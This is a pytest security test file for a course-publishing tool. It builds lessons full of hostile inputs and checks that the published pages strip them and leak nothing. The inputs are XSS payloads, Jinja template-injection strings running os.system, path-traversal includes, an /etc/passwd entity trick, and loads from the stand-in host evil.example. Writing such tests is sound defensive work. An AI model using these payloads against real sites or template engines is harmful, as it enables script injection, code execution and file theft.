"""Lessons that try to run something, load something, or publish a file that is none of theirs.

All of them are built in one go, beside an honest lesson; then each finished page is looked at.
"""

import json
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser
from tests.publishing.libraries import CONFIG, PNG, code, display, markdown, notebook, write_library

from courseforge.publishing.building import BuildReport, publish
from courseforge.rendering.firewall import inspect_page

CANARY = "canary-7f3a91"
REMOTE = "evil.example"

IN_MARKDOWN = {
    "script": "<script>alert(1)</script>",
    "script-in-svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "handler": '<img src="x" onerror="alert(1)">',
    "handler-after-slash": "<img src=x/onerror=alert(1)>",
    "handler-on-details": "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "javascript-link": "[press](javascript:alert(1))",
    "javascript-with-tab": '<a href="java\tscript:alert(1)">press</a>',
    "javascript-as-entity": '<a href="&#106;avascript:alert(1)">press</a>',
    "vbscript-link": '<a href="vbscript:msgbox(1)">press</a>',
    "data-link": '<a href="data:text/html,<script>alert(1)</script>">press</a>',
    "odd-scheme": "<a href='steam://run/1'>press</a> <a href='ms-word:ofe|u|https://evil.example/a.docx'>b</a>",
    "svg-onload": '<svg onload="alert(1)"><use href="https://evil.example/x.svg#a"/></svg>',
    "mutation-math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style": "<style>@import url(https://evil.example/x.css); body{display:none}</style>",
    "style-attribute": '<div style="position:fixed;inset:0;background:url(https://evil.example/p)">Log in</div>',
    "frame-classes": '<div class="skip top foot cf-x" id="cf-main">Log in here</div>',
    "stylesheet-link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    "form": '<form action="https://evil.example/"><input type="password" name="p"><button>Go</button></form>',
    "remote-image": "![x](https://evil.example/pixel.png)",
    "remote-image-protocol-relative": '<img src="//evil.example/pixel.png">',
    "remote-image-backslash": '<img src="\\\\evil.example/pixel.png">',
    "remote-srcset": '<img src="a.png" srcset="https://evil.example/b.png 2x">',
    "remote-video": '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video>',
    "ping": '<a href="https://example.org" ping="https://evil.example/">x</a>',
    "new-window": '<a href="https://example.org" target="_blank">x</a>',
    "template": "<template><script>alert(1)</script></template>",
    "jinja": "{{ env.app.__class__.__init__.__globals__['os'].system('touch PWNED') }} end",
    "jinja-cycler": "{{ cycler.__init__.__globals__.os.system('touch PWNED') }}",
    "raw-directive": "```{raw} html\n<script>alert(1)</script>\n```",
    "raw-file": "```{raw} html\n:file: SECRET\n```",
    "include": "```{include} SECRET\n```",
    "include-relative": "```{include} ../../../secret.txt\n```",
    "include-in-spanish": "```{incluir} SECRET\n```",
    "literalinclude": "```{literalinclude} SECRET\n```",
    "literalinclude-diff": "```{literalinclude} data/a.txt\n:diff: SECRET\n```\n\n```{literalinclude} SECRET\n```",
    "literalinclude-settings": "```{literalinclude} _config.yml\n```",
    "include-itself": "```{include} data/again.md\n```",
    "frame-in-a-link": '<a href="javascript:alert(1)"><iframe src="https://evil.example/x" title="<b onclick=x>"></iframe></a>',
    "raw-svg": "```{raw} html\n<svg viewBox='0 0 1 1'><a xlink:href='javascript:alert(1)'><path d='M0 0'/></a>"
    "<foreignObject><iframe src='https://evil.example'></iframe></foreignObject><style>@import 'https://evil.example'"
    "</style></svg>\n```",
    "csv-table-file": "```{csv-table} T\n:file: SECRET\n```",
    "eval-rst-include": "```{eval-rst}\n.. include:: SECRET\n\n.. raw:: html\n   :file: SECRET\n```",
    "figure-outside": "```{figure} SECRET\n```",
    "figure-relative": "```{figure} ../../../secret.txt\nwords\n```",
    "image-outside": "![x](../../../secret.png)",
    "image-absolute": "![x](SECRET)",
    "download-outside": "{download}`get it <../../../secret.txt>`",
    "download-absolute": "{download}`get it <SECRET>`",
    "link-outside": "[get it](../../../secret.txt)",
    "code-cell-load": "```{code-cell}\n:load: SECRET\n```",
    "nested-include": "::::{note}\n:::{include} SECRET\n:::\n::::",
    "card-image": ":::{card} T\n:img-top: ../../../secret.png\nwords\n:::",
    "front-matter-in-a-cell": "---\nmyst:\n  enable_extensions: [substitution]\nmystnb:\n  execution_mode: force\n---\n\ntext",
    "attribute-syntax": "[x](https://example.org){onclick=alert(1) style='position:fixed' .skip}",
    "math-link": "$\\href{javascript:alert(1)}{x}$ $\\def\\a{\\a\\a}\\a$",
    "download-past-a-scheme": "{download}`get it <x:/../../../../../../../../../../../..SECRET>` [t](x:/../../../../secret.txt)",
    "download-past-a-host": "{download}`get it </SECRET>` [t](path:/SECRET) [u](path:../../../secret.txt)",
    "download-past-a-query": "{download}`get it <data/a.txt?/../../../../../../secret.txt>`",
    "image-past-a-scheme": "```{image} DATA:/../../../../secret.png\n```",
    "image-past-a-query": "![q](images/x.png?/../../../../secret.png) ![r](<images/x.png#/../../../../secret.png>)",
    "image-any-suffix": "![q](../../../secret.*)",
    "raw-html-image-outside": '<img src="../../../secret.png"> <audio src="../../../secret.txt"></audio>',
    "remote-image-three-slashes": '<img src="///evil.example/x.png">',
    "link-to-a-page": "[page](evil.html) [more](evil.xml)",
    "link-to-a-file-scheme": "[x](file:///etc/passwd) <file:///etc/passwd>",
    "control-characters": "```text\na\x01b\x0cc\n```",
    "odd-formulas": "$a & b$ $_$ $\\pmod}$",
    "clock": "{sub-ref}`today` {sub-ref}`wordcount-words`",
    "autodoc": "```{automodule} os\n:members:\n```",
}

_EVIL_WORDS = "<script>alert(1)</script><img src=x onerror=alert(1)>"
_EVIL_FIGURE = {
    "data": [
        {"type": "bar", "name": _EVIL_WORDS, "x": [_EVIL_WORDS, '<a href="javascript:alert(1)">b</a>'], "y": [1, 2]}
    ],
    "layout": {
        "title": {"text": _EVIL_WORDS},
        "xaxis": {"title": {"text": _EVIL_WORDS}},
        "images": [{"source": "https://evil.example/p.png"}],
    },
}

IN_OUTPUTS = {
    "output-script": display(text__html="<b>x</b><script>alert(1)</script>"),
    "output-handler": display(text__html='<img src="x" onerror="alert(1)">'),
    "output-unclosed": display(
        text__html='<div><div class="prose"><a href="javascript:alert(1)">x<img src=x onerror=alert(1)//'
    ),
    "output-markdown": display(
        text__markdown="<script>alert(1)</script> {{ 7 * 7 }} ![x](https://evil.example/p.png)"
    ),
    "output-latex": display(text__latex="$\\href{javascript:alert(1)}{x}$"),
    "output-javascript": display(application__javascript="alert(1)", text__plain="x"),
    "output-svg": display(
        image__svg_xml='<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script>'
        '<image href="https://evil.example/p.png"/><foreignObject><b/></foreignObject>'
        '<style>@import "https://evil.example/x.css";</style><circle r="1" fill="url(https://evil.example/f)"/></svg>'
    ),
    "output-svg-entities": display(
        image__svg_xml='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
    ),
    "output-false-picture": display(image__png="PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    "output-data-html": display(
        text__html='<a href="data:text/html;base64,PHNjcmlwdD4=">x</a><img src="data:image/svg+xml,<svg onload=alert(1)>">'
    ),
    "output-widget": display(**{"application__vnd.jupyter.widget-view+json": "{}", "text__plain": "a widget"}),
    "output-plotly": display(**{"application__vnd.plotly.v1+json": _EVIL_FIGURE, "text__html": "<script>1</script>"}),
    "output-plotly-as-a-page": display(
        text__html=f"<div><script>Plotly.newPlot('x', 1)</script><script>Plotly.newPlot(\"x\", "
        f"{json.dumps(_EVIL_FIGURE['data'])}, {{}})</script></div>"
    ),
    "output-plotly-not-drawn": display(
        **{"application__vnd.plotly.v1+json": {**_EVIL_FIGURE, "data": [{"type": "surface", "name": _EVIL_WORDS}]}}
    ),
}


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, BuildReport]:
    root = tmp_path_factory.mktemp("hostile library")
    secret = root / "secret.txt"
    secret.write_text(CANARY)
    (root / "secret.png").write_text(CANARY)
    files: dict[str, str] = {
        f"attacks/{name}.ipynb": notebook(markdown(f"## Part\n\n{source.replace('SECRET', str(secret))}\n\nThe end."))
        for name, source in IN_MARKDOWN.items()
    }
    files |= {
        f"attacks/{name}.ipynb": notebook(markdown("## Part"), code("show()", output), markdown("The end."))
        for name, output in IN_OUTPUTS.items()
    }
    nested = "\n".join(["```{note}"] * 1200)
    files["attacks/nested-without-end.ipynb"] = notebook(markdown("## Part\n\nThe end."), markdown(nested))
    value = json.dumps(f"```{{include}} {secret}\n```\n\n<script>alert(1)</script> {{{{ x }}}} {{{{ 7 * 7 }}}}")
    files["attacks/substituted.ipynb"] = notebook(
        markdown("{{ x }}\n\nThe end."), front=f"myst: {{substitutions: {{x: {value}}}}}\n"
    )
    files["attacks/data/a.txt"] = "a"
    files["attacks/data/again.md"] = "```{include} data/again.md\n```\n"
    files["attacks/evil.html"] = "<script>document.title = 'pwned'</script>"
    files["attacks/evil.xml"] = "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"
    files["attacks/locales/es/LC_MESSAGES/honest.mo"] = "x"
    files["attacks/raw-cell.ipynb"] = notebook(
        markdown("The end."),
        {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": "<script>1</script>"},
    )
    words = "</title></script><script>alert(1)</script><img src=x onerror=alert(1)>"
    front = f"description: {json.dumps(words)}\nauthors: [{json.dumps(words)}]\nproduct: {json.dumps(words)}\n"
    files["attacks/words.ipynb"] = notebook(
        markdown(f"## {words}\n\nThe end."), title=words, front=front + f"objectives: [{json.dumps(words)}]\n"
    )
    files["attacks/honest.ipynb"] = notebook(
        markdown("## Part\n\nA *good* lesson. The end."), code("1", display(image__png=PNG)), title="Honest"
    )
    write_library(root, files, CONFIG.replace("[en, es]", "[es, en]"))  # Spanish: docutils knows its own names there
    return root, publish(root, execute=False)


ALL = [*IN_MARKDOWN, *IN_OUTPUTS, "raw-cell", "words", "substituted"]


@pytest.mark.parametrize("name", ALL)
def test_page_neither_runs_nor_loads(name: str, hostile_site: tuple[Path, BuildReport]) -> None:
    _, report = hostile_site
    page = (report.site / "attacks" / f"{name}.html").read_bytes()
    scripts = [f"_static/{path.name}" for path in (report.site / "_static").glob("*.js")]
    assert inspect_page(page, f"attacks/{name}.html", scripts) == []
    main = LexborHTMLParser(page.decode()).css_first("main")
    assert main is not None
    if not name.startswith("mutation-"):  # an element that is never closed takes the rest with it, as in a browser
        assert "The end" in main.text()
    assert main.css_first("script, iframe, form, input, [style], [target], .part svg, .part [id^=cf-]") is None
    assert REMOTE not in "".join(node.html or "" for node in main.css("[src], [srcset], [poster]"))
    assert not {"skip", "top", "foot", "cf-x"} & {
        c for node in main.css(".prose *") for c in (node.attributes.get("class") or "").split()
    }


def test_no_foreign_file_is_published(hostile_site: tuple[Path, BuildReport]) -> None:
    _, report = hostile_site
    leaks = [path for path in report.site.rglob("*") if path.is_file() and CANARY.encode() in path.read_bytes()]
    assert leaks == []
    assert b"root:" not in b"".join(path.read_bytes() for path in report.site.rglob("*.svg"))


def test_nothing_was_run_and_the_honest_lesson_is_there(hostile_site: tuple[Path, BuildReport]) -> None:
    root, report = hostile_site
    assert not [path for path in (*root.rglob("PWNED"), Path("PWNED")) if path.exists()]
    assert report.lessons == len(ALL) + 1
    assert not [path for path in report.site.rglob("*") if path.name.startswith("evil")]
    page = LexborHTMLParser((report.site / "attacks" / "honest.html").read_text())
    assert page.css_first("h1").text(strip=True) == "Honest"
    assert page.css_first("main em").text() == "good"


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("script", "CF743"),
        ("iframe", "CF743"),
        ("form", "CF743"),
        ("javascript-as-entity", "CF743"),
        ("include", "CF742"),
        ("include-in-spanish", "CF742"),
        ("raw-directive", "CF743"),
        ("raw-file", "CF742"),
        ("literalinclude-diff", "CF742"),
        ("literalinclude-settings", "CF742"),
        ("substituted", "CF742"),
        ("remote-image", "CF401"),
        ("image-outside", "CF401"),
        ("download-absolute", "CF401"),
        ("raw-cell", "CF740"),
        ("output-javascript", "CF741"),
        ("output-false-picture", "CF741"),
        ("output-plotly-not-drawn", "CF741"),
    ],
)
def test_the_author_is_told(name: str, code: str, hostile_site: tuple[Path, BuildReport]) -> None:
    _, report = hostile_site
    said = [d for d in report.diagnostics if d.location.path == f"courses/attacks/{name}.ipynb"]
    assert code in [d.code for d in said], said
    assert all(d.hint for d in said)


def test_the_last_gate_had_nothing_to_do(hostile_site: tuple[Path, BuildReport]) -> None:
    """Everything was taken out before it; the gate is there for what we did not think of."""
    _, report = hostile_site
    assert [d for d in report.diagnostics if d.code == "CF799"] == []
